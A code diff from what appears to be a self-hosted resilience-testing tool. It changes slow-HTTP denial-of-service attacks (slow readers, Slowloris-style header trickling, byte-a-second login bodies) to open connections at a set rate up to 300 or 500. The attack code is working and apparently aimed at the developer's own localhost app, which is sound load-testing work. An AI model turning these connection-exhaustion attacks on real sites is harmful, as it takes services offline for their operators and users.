@@ -2,13 +2,15 @@ import { connect } from 'node:net';
 import type { Socket } from 'node:net';
 import { createClient } from '../client.ts';
 import { flood } from '../flood.ts';
-import { pause } from '../steady.ts';
+import { pause, steadily } from '../steady.ts';
 import type { Attack, AttackRun } from '../attack.ts';
 
 interface Connections {
   readonly count: number;
+  /** How many are opened a second until there are enough. */
+  readonly perSecond: number;
   /** What each connection sends at once. */
-  readonly opening: string;
+  readonly request: string;
   /** What it sends once a second; nothing for connections that only read. */
   readonly trickle?: string;
 }
@@ -16,7 +18,7 @@ interface Connections {
 /** Keeps connections open that read a few bytes a second; opens a new one for each that the site closes. */
 async function keepOpen(
   { target, address, counter, signal }: AttackRun,
-  { count, opening, trickle }: Connections,
+  { count, perSecond, request, trickle }: Connections,
 ): Promise<void> {
   const { hostname, port } = new URL(target.origin);
   const sockets = new Set<Socket>();
@@ -28,48 +30,59 @@ async function keepOpen(
     socket.on('close', () => sockets.delete(socket));
     // Without a listener the socket reads nothing: the answer stays in the buffers.
     socket.pause();
-    socket.write(opening);
+    socket.write(request);
   };
+  const fire = async () => {
+    if (sockets.size < count) open();
+    return Promise.resolve();
+  };
+  const opening = steadily({ perSecond, signal, fire });
   while (!signal.aborted) {
-    while (sockets.size < count) open();
     await pause(1000, signal);
     for (const socket of sockets) {
       socket.read(64);
       if (trickle !== undefined) socket.write(trickle);
     }
   }
+  await opening;
   for (const socket of sockets) socket.destroy();
 }
 
 const slowReaders: Attack = {
   id: 'slow-readers',
-  what: '300 connections with ten requests each for a thousand rows, 64 bytes read a second, from one address',
-  least: 300,
+  what: '60 connections a second up to 300, each with five requests for a thousand rows, that read 64 bytes a second',
+  least: 150,
   async run(run) {
     const path = `/api/v1/website/get-contest-winner?sportsCategory=${run.target.boardSportId}&pageSize=1000`;
     const request = `GET ${path} HTTP/1.1\r\nhost: localhost\r\n\r\n`;
-    return keepOpen(run, { count: 300, opening: request.repeat(10) });
+    return keepOpen(run, { count: 300, perSecond: 60, request: request.repeat(5) });
   },
   after: ['page'],
 };
 
 const slowSenders: Attack = {
   id: 'slow-senders',
-  what: '500 connections that send a header of a few bytes a second, from one address',
+  what: '200 connections a second up to 500 that send a header of a few bytes a second, from one address',
   least: 500,
   run: async (run) =>
-    keepOpen(run, { count: 500, opening: 'GET / HTTP/1.1\r\nhost: localhost\r\n', trickle: 'x-a: b\r\n' }),
+    keepOpen(run, {
+      count: 500,
+      perSecond: 200,
+      request: 'GET / HTTP/1.1\r\nhost: localhost\r\n',
+      trickle: 'x-a: b\r\n',
+    }),
   after: ['page', 'profile'],
 };
 
 const slowBodies: Attack = {
   id: 'slow-bodies',
-  what: '500 connections that send the body of a login by a byte a second, from one address',
+  what: '200 connections a second up to 500 that send the body of a login by a byte a second, from one address',
   least: 500,
   run: async (run) =>
     keepOpen(run, {
       count: 500,
-      opening:
+      perSecond: 200,
+      request:
         'POST /api/v1/auth/login HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n{',
       trickle: ' ',
     }),
